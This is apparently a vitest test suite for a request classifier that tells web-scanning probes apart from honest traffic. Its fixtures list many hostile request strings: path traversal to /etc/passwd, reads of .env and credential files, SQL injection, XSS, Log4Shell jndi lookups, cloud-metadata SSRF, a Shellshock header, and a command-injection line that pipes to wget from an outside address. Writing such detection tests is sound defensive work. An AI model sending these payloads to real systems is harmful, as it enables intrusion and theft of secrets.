import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { normalPath, normalSpelling } from '../urls/normal-spelling.js';
import { isProbe as isProbeOf, type ProbedRequest, type ProbedRow } from './probes.js';

type ProbeRequest = ProbedRequest & ProbedRow;

const isProbe = (request: ProbeRequest) => isProbeOf(request, request);

function requestOf(target: string, status: number, given: Partial<ProbeRequest> = {}): ProbeRequest {
  const mark = target.indexOf('?');
  return {
    path: normalPath(mark < 0 ? target : target.slice(0, mark)),
    query: mark < 0 ? '' : normalSpelling(target.slice(mark + 1)),
    sent_target: target,
    status,
    user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    bot_name: '',
    ...given,
  };
}

/** Probes with any status: single-page websites answer 200 to everything. */
const attacks = [
  '/.env',
  '/.ENV',
  '/.env.production',
  '/.env-old',
  '/api/.env',
  '/%2eenv',
  '/.git/config',
  '/.git/HEAD',
  '/app/.git/index',
  '/.aws/credentials',
  '/.vscode/sftp.json',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/wp-config.php.bak',
  '/../../../../etc/passwd',
  '/.%2e/%2e%2e/%2e%2e/etc/passwd',
  '/static/../../../../etc/hosts',
  '/static/%2E%2E/%2E%2E/boot.ini',
  '/static/..%2f..%2f..%2fwindows/win.ini',
  '/static/..%252f..%252f..%252fboot',
  '/static/..%c0%af..%c0%afetc',
  '/app/..;/manager/text',
  '/cgi-bin/%2e%2e/%2e%2e/bin/sh',
  '/index.php?page=../../../../etc/passwd',
  '/index.php?page=..%2f..%2f..%2fetc%2fpasswd',
  '/read?file=/etc/passwd',
  '/read?file=/etc/passwd%00.png&x=1',
  '/read?file=php://filter/convert.base64-encode/resource=index',
  '/proxy?url=http://169.254.169.254/latest/meta-data/',
  '/search?q=1%27%20OR%20%271%27=%271',
  "/search?q=1'+or+'a'%3D'a",
  '/item?id=1+or+1=1',
  '/item?id=1%09or%0a1=1',
  '/item?id=1/**/and/**/1=1',
  '/item?id=1%2527%20or%201=1',
  "/login?user=admin'--",
  '/login?user=admin%27)%20or%20(%271%27=%271',
  '/search?q=%27%20UNION%20SELECT%20null,version()--',
  '/item?id=-1+union+all+select+1,2,3',
  '/product.php?id=1%20AND%20SLEEP(5)',
  '/c/camping/tents?page=-1%27%20ORDER%20BY%2050--',
  '/item?id=1;waitfor%20delay%20%270:0:5%27',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/search?q=%22%3E%3Cscript%20src=//x.example%3E',
  '/search?q=%24%7Bjndi:ldap://203.0.113.9/a%7D',
  '/?name={{7*7}}',
  '/?cmd=id',
  '/?x=1&cmd=whoami&y=2',
  '/ping?host=1.1.1.1;cat%20/etc/hosts',
  '/ping?host=1.1.1.1|wget%20http://203.0.113.9/x',
  '/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
  '/api/stock/1000%20or%201=1',
  '/image%00.php',
];

/** Probes only if they were refused. */
const guesses = [
  '/wp-login.php',
  '/blog/wp-login.php',
  '/xmlrpc.php',
  '/wp-admin/',
  '/wp-admin/install.php',
  '/wp-json/wp/v2/users',
  '/wp-content/plugins/hellopress/wp_filemanager.php',
  '/wp-includes/wlwmanifest.xml',
  '/phpmyadmin/',
  '/phpMyAdmin/index.php',
  '/pma/',
  '/administrator/',
  '/manager/html',
  '/boaform/admin/formLogin',
  '/cgi-bin/luci/;stok=/locale',
  '/HNAP1/',
  '/solr/admin/info/system',
  '/owa/auth/logon.aspx',
  '/shell.php',
  '/alfa.php',
  '/phpinfo.php',
  '/backup.sql',
  '/dump.sql.gz',
  '/backup.zip',
  '/www.tar.gz',
  '/index.php.bak',
  '/docker-compose.yml',
  '/actuator/env',
  '/src/branch/main/.env',
];

/** Requests of honest clients, with any status. */
const honest = [
  '/',
  '*',
  '',
  '/robots.txt',
  '/favicon.ico',
  '/apple-touch-icon-precomposed.png',
  '/.well-known/security.txt',
  '/.well-known/acme-challenge/Zq3',
  '/.well-known/apple-app-site-association',
  '/autodiscover/autodiscover.xml',
  '/actuator/health',
  '/server-status',
  '/_framework/blazor.boot.json',
  '/appsettings.json',
  '/wp-admin/admin-ajax.php',
  '/wp-includes/js/jquery/jquery.min.js',
  '/wp-content/uploads/2026/11/tent.jpg',
  '/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fshop.example%2F',
  '/vendor/bootstrap/bootstrap.min.css',
  '/downloads/tool-1.2.zip',
  '/releases/app-2.0.tar.gz',
  '/environment',
  '/blog/what-is-a-.env-file',
  '/telescope',
  '/manager',
  '/a/..b/c',
  '/v1.2..v1.3',
  "/rock-'n'-roll",
  '/rock%20%27n%27%20roll',
  '/caf%C3%A9/%E6%97%A5%E6%9C%AC',
  '/100%',
  '/%zz',
  '/wiki/Tent_(shelter)',
  '/search?q=rock+%27n%27+or+roll',
  "/search?q=O'Brien+and+O'Neill",
  '/search?q=what+is+a+union+select+statement',
  '/search?q=how+to+sleep()+in+python',
  '/search?q=time.sleep(5)',
  '/search?q=%2Fetc%2Fpasswd+explained',
  '/search?q=%3Cscript%3E+tag',
  '/search?q=1+or+2+persons&page=3',
  '/search?q=black+and+white+tent&size=10',
  '/search?q=information_schema',
  '/search?q=student+union+opening+hours',
  '/search?q=100%+cotton',
  '/list?sort=price..asc&range=1..5',
  '/login?redirect=../account',
  '/login?next=%2Faccount%2Forders%3Fpage%3D2',
  '/odata/Items?$filter=Price%20gt%201%20and%20Price%20lt%205',
  '/?utm_source=newsletter&utm_campaign=order%20by%20friday',
  '/?gclid=Cj0KCQ&cmd=list',
  '/?data=%7B%22a%22%3A1%2C%22b%22%3A%5B1%2C2%5D%7D',
  '/_next/image?url=%2Fimages%2Ftent.jpg&w=640&q=75',
  '/?filter=(color:red;size:xl)',
];

describe('a probe', () => {
  const answers = [200, 301, 403, 404, 500];
  test.each(attacks)('is %s with any status', (target) => {
    expect(answers.filter((status) => isProbe(requestOf(target, status)))).toEqual(answers);
  });

  test.each(guesses)('is %s only if it was refused', (target) => {
    const all = [200, 302, 401, 403, 404, 405, 429, 500];
    expect(all.filter((status) => isProbe(requestOf(target, status)))).toEqual([401, 403, 404, 405]);
  });

  test.each(honest)('is not "%s"', (target) => {
    expect(answers.filter((status) => isProbe(requestOf(target, status)))).toEqual([]);
  });

  it('is a request of an attack tool, or an attack in a header', () => {
    expect(isProbe(requestOf('/', 200, { bot_name: 'sqlmap' }))).toBe(true);
    expect(isProbe(requestOf('/', 200, { bot_name: 'CensysInspect' }))).toBe(false);
    expect(isProbe(requestOf('/', 200, { user_agent: '() { :; }; /bin/bash -c "id"' }))).toBe(true);
    expect(isProbe(requestOf('/', 200, { user_agent: ['$', '{jndi:ldap://203.0.113.9/a}'].join('') }))).toBe(
      true,
    );
    expect(isProbe(requestOf('/', 200, { user_agent: 'Reader/1.0 {feed}' }))).toBe(false);
  });
});

describe('any request text', () => {
  const hostile = fc.oneof(
    fc.string({ maxLength: 200, unit: 'binary' }),
    fc.webQueryParameters(),
    fc
      .array(fc.constantFrom('%', '%2', '%25', '27', "'", ' or ', '..', '/', '.', '.env', '=', '+', '/**/'), {
        maxLength: 60,
      })
      .map((parts) => parts.join('')),
  );

  it('is examined up to 2,048 characters', () => {
    const behind = (length: number) => requestOf(`/?q=${'x'.repeat(length - 2)}&cmd=id`, 200);
    expect(isProbe(behind(2_048 - '&cmd=id'.length))).toBe(true);
    expect(isProbe(behind(2_048))).toBe(false);
  });

  it('gets a verdict', () => {
    fc.assert(
      fc.property(hostile, hostile, fc.nat(599), (path, query, status) => {
        expect(typeof isProbe({ ...requestOf('/', status), path: `/${path}`, query })).toBe('boolean');
      }),
    );
  });

  it('takes time linear in its length', () => {
    const fillings = [
      '%',
      '%25',
      "' or ",
      ' and 1',
      'union ',
      '../',
      '/.',
      '/',
      '..',
      "'",
      '/**/',
      '%252527',
    ];
    for (const filling of fillings) {
      const long = `/${filling.repeat(2_000_000 / filling.length)}`;
      const started = performance.now();
      isProbe({ ...requestOf('/', 404), path: long, query: long });
      // Takes some 10 ms; quadratic time would be minutes.
      expect([filling, performance.now() - started < 2_000]).toEqual([filling, true]);
    }
  });
});
